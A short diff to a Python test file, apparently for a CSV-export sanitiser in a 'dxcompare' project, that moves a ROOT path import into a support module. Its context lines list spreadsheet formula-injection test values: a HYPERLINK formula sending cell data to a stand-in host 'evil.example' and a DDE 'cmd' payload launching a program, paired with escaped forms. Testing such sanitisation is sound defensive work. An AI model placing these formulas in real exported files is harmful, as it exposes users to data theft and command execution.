@@ -5,15 +5,14 @@ from __future__ import annotations
 
 import csv
 import io
-from pathlib import Path
 
 import pandas as pd
 
 from dxcompare.cli import main
 from dxcompare.reporting.csvsafe import safe_cell
 from dxcompare.reporting.notebook import save_table
+from support import ROOT
 
-ROOT = Path(__file__).resolve().parents[1]
 HOSTILE_CELLS = {
     '=HYPERLINK("http://evil.example/?q="&A1,"Xem")': '\'=HYPERLINK("http://evil.example/?q="&A1,"Xem")',
     "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
